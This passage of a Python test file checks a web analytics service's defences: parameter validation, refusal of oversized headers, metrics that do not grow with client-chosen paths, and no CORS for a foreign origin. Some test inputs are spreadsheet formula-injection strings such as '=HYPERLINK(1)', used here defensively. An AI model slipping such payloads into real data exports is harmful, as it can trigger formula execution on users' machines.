    formula-like report dimension, a page of a million calls: a 400 naming the parameter."""
    engine = made()
    with service(engine) as base:
        for query in ("step=1&since=0&until=99999999999", "step=-3600", "step=0", "step=nan", "step=60&since=0"):
            r = httpx.get(f"{base}/v1/pools/usage?{query}", headers=AUTH)
            assert r.status_code == 400 and r.json()["problems"][0]["field"] == "step", (query, r.text)
        for by in ("=HYPERLINK(1)", "query.=cmd", "source," * 100):
            r = httpx.get(f"{base}/v1/reports", params={"by": by, "format": "csv"}, headers=AUTH)
            assert r.status_code == 400 and r.json()["problems"][0]["field"] == "by", by
        r = httpx.get(f"{base}/v1/calls?limit=1000000", headers=AUTH)
        assert r.status_code == 400 and r.json()["problems"][0]["field"] == "limit"


@ONE_BUILD
def test_huge_headers_are_refused_and_the_service_goes_on(made):
    """A 200 KB Cookie header (or thousands of headers) never reaches the app: uvicorn refuses it, and
    the next request is answered as usual."""
    engine = made()
    with service(engine) as base:
        for headers in ({"Cookie": "k50_vid=" + "a" * 200_000}, {f"X-H{i}": "x" * 100 for i in range(3000)}):
            try:
                r = httpx.post(f"{base}/v1/visit", json={"url": SITE}, headers={"User-Agent": UA, **headers})
                assert r.status_code in (400, 413, 431), r.status_code
            except httpx.HTTPError:  # the connection closed on it
                pass
        assert httpx.post(f"{base}/v1/visit", json={"url": SITE}, headers={"User-Agent": UA}).status_code == 200


@ONE_BUILD
def test_made_up_paths_and_values_do_not_grow_the_metrics_or_open_cors(made):
    """What a client chooses (paths, methods, pools it names, origins) is no metric label: hundreds of
    made-up paths leave /metrics as it was. The private endpoints answer no CORS at all, so a page
    elsewhere cannot read a report with the staff's session."""
    engine = made()
    with service(engine) as base:
        with httpx.Client(base_url=base) as client:
            before = len(client.get("/metrics", headers=AUTH).text.splitlines())
            for n in range(300):
                client.request(("GET", "POST", "PURGE")[n % 3], f"/x{n}/v1/visit{n}")
            client.post("/v1/visit", json={"url": SITE, "pool": "made-up"}, headers={"User-Agent": UA})
            after = client.get("/metrics", headers=AUTH).text
        assert not [line for line in after.splitlines() if "/x" in line or "made-up" in line or "PURGE" in line]
        assert len(after.splitlines()) <= before + 20  # the visit's own counters, not one per path
        client, _, _ = _signed_in(base)
        r = client.get("/v1/reports", headers={"Origin": "https://evil.example"})
        assert r.status_code == 200 and "access-control-allow-origin" not in r.headers
        pre = client.options("/v1/reports", headers={"Origin": "https://evil.example",
                                                     "Access-Control-Request-Method": "GET"})
        assert "access-control-allow-origin" not in pre.headers
